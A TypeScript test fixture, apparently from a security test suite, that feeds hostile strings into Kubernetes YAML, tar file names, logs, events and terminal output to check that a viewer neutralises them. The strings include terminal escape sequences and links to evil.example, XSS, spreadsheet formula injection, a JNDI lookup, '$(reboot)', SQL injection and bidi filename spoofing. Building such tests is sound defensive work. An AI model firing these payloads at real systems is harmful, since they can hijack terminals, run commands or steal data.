import { type Attack, filler } from '../attack.ts';
import { TAR_END, tarItem } from '../tar.ts';

/** What terminals, spreadsheets, browsers and editors act on. */
const TRICKS = [
  '\x1b[31mred\x1b[2J\x1b[H',
  '\x1b]0;title\x07',
  '\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\',
  '\x9b31m\x9d0;title\x9c',
  '\x1bP+q544e\x1b\\\x1b_x\x1b\\\x1b^y\x1b\\',
  'gnp.\u202egpj\u202c\u2066x\u2069',
  '\u200b\u200e\ufeff\u00ad\u2028\u2029',
  '\r\nfake: line\r\x08\x08\x7f',
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  "=cmd|'/C calc'!A0",
  '+1+1',
  '@SUM(A1)',
  '-2+3',
  '[x](javascript:alert(1))',
  '![x](http://evil.example/x.png)',
  '`$(reboot)`',
  '```\n# head\n```',
  '| a | b |\n|---|---|',
  '{{constructor.constructor("return process")()}}',
  `$\{jndi:ldap://evil.example}`,
  '&lt;b&gt;&amp;&#x41;',
  "'; DROP TABLE pods; --",
  '%n%s%x%00',
  '\ud83d\ude00\u0301\u0301',
];
const asYaml = (text: string): string =>
  JSON.stringify(text).replace(/[\x7f-\uffff]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`);
const service = (name: string, namespace: string): string =>
  `apiVersion: networking.istio.io/v1\nkind: VirtualService\nmetadata:\n  name: ${name}\n  namespace: ${namespace}\nspec:\n  hosts: [${name}]\n  http:\n  - route:\n    - destination: {host: ${name}, subset: ${namespace}}\n`;

/** Names and texts that do something where they are shown. */
export const NAMES: readonly Attack[] = [
  {
    name: 'names-of-objects.yaml',
    content: () => [TRICKS.map((text) => service(asYaml(text), asYaml(text))).join('---\n')],
    says: { harmless: 'names are shown with everything spelled out that would act' },
  },
  {
    name: 'names-of-files.tar',
    content: () => [
      ...TRICKS.map((text, i) =>
        tarItem(`bug-report/${text.replaceAll('\0', '')}/${i}.yaml`, service(`web-${i}`, 'shop')),
      ),
      TAR_END,
    ],
    says: { harmless: 'names are shown with everything spelled out that would act' },
  },
  {
    name: 'words-of-a-log.log',
    content: () => [
      TRICKS.map(
        (text) =>
          `2026-11-25T01:00:00.000000Z\terror\tads\tADS: ${text.replaceAll('\n', ' ')} terminated with rpc error: code = Internal desc = ${text.replaceAll('\n', ' ')}\n`,
      ).join(''),
      TRICKS.map(
        (text) =>
          `[2026-11-25T01:00:00.000Z] "GET /${text.replaceAll('\n', ' ')} HTTP/1.1" 503 UH no_healthy_upstream - "-" 0 19 0 - "-" "${text}" "-" "${text}" "-" - - 10.0.0.1:80 10.0.0.2:1 ${text} -\n`,
      ).join(''),
    ],
    says: { harmless: 'what a log quotes is shown with everything spelled out that would act' },
  },
  {
    name: 'names-of-events.txt',
    content: () => [
      'NAMESPACE   LAST SEEN   TYPE      REASON    OBJECT    MESSAGE\n',
      ...TRICKS.map((text) => `shop        2m          Warning   Failed    pod/a     ${text.replaceAll('\n', ' ')}\n`),
    ],
    says: { harmless: 'what an event says is shown with everything spelled out that would act' },
  },
  {
    name: 'names-of-kilobytes.yaml',
    content: () => [
      service(filler(20_000, 'long-'), filler(20_000, 'name-')),
      '---\n',
      service(`"${'\\u0301'.repeat(10_000)}"`, 'b'),
    ],
    says: { harmless: 'names are names' },
  },
  {
    name: 'links-out-of-the-terminal.txt',
    content: () => [
      '\x1b]0;owned\x07$ kubectl get pods\n\x1b[8mNAME READY STATUS RESTARTS AGE\x1b[0m\nweb 0/1 CrashLoopBackOff 9 2m\n',
    ],
    says: { harmless: 'a terminal session holds such sequences, which are left out' },
  },
];
